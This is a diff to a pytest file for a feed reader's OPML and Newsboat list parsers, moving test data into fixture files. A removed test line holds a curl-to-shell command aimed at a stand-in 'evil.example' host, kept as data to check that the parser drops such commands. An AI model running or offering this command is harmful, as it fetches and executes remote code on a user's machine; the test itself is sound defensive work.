@@ -1,6 +1,7 @@
 """Feeds of every format, good and bad; the feeds that pages name; lists from and for other readers."""
 
 import json
+from pathlib import Path
 
 import pytest
 
@@ -10,6 +11,7 @@ from store.feeds import Entry, Feed, named_feeds, read_feed
 from store.model import Snapshot, Source
 from store.opml import parse_newsboat_urls, parse_opml, to_opml
 
+LISTS = Path(__file__).parent / "data" / "lists"
 URL = "https://echo.example/feed"
 NOON = "2026-11-20T12:00:00+01:00"
 
@@ -185,17 +187,28 @@ def test_what_is_no_opml_is_told(body: bytes) -> None:
         parse_opml(body)
 
 
-def test_newsboats_list_is_read_and_its_commands_are_left_out() -> None:
-    text = """# mine
-https://a.example/feed "~The A" world "slow news" !
-"exec:curl https://evil.example | sh" x
-filter:/bin/f:https://b.example/feed
-"query:Unread:unread = \\"yes\\""
+def test_what_newsboat_exports_is_read() -> None:
+    assert parse_opml((LISTS / "newsboat.opml").read_bytes()) == [
+        Source("https://canal-echo.example/feed?x=1&y=2", 'My "own" Echo'),
+        Source("https://harbour.example/rss", "Lock & Harbour “Daily”"),
+        Source("https://unread.example/atom.xml"),
+    ]
 
-https://c.example/feed
-"""
-    sources, left_out = parse_newsboat_urls(text)
-    assert [(s.url, s.title, s.tags) for s in sources] == [
-        ("https://a.example/feed", "The A", ("world", "slow news")), ("https://c.example/feed", "", ()),
-    ]  # fmt: skip
-    assert [line.strip('"').partition(":")[0] for line in left_out] == ["exec", "filter", "query"]
+
+def test_what_freshrss_exports_is_read() -> None:
+    assert parse_opml((LISTS / "freshrss.opml").read_bytes()) == [
+        Source("https://canal-echo.example/feed", "Canal Echo", ("Uncategorized",)),
+        Source("https://harbour.example/rss", "Harbour Daily", ("Ports & ships",)),
+        Source("https://scrape.example/news.html", "A page to scrape", ("Ports & ships",)),
+    ]
+
+
+def test_newsboats_list_is_read_and_its_commands_are_left_out() -> None:
+    sources, left_out = parse_newsboat_urls((LISTS / "newsboat-urls").read_text(encoding="utf-8"))
+    assert sources == [
+        Source("https://canal-echo.example/feed?x=1&y=2", 'My "own" Echo', ("world",)),
+        Source("https://harbour.example/rss#latest", tags=("slow news", "ports")),
+        Source("https://quiet.example/feed", "Quiet"),
+        Source("https://bare.example/feed"),
+    ]
+    assert [line.strip('"').partition(":")[0] for line in left_out] == ["exec", "filter", "query", "query", "file"]
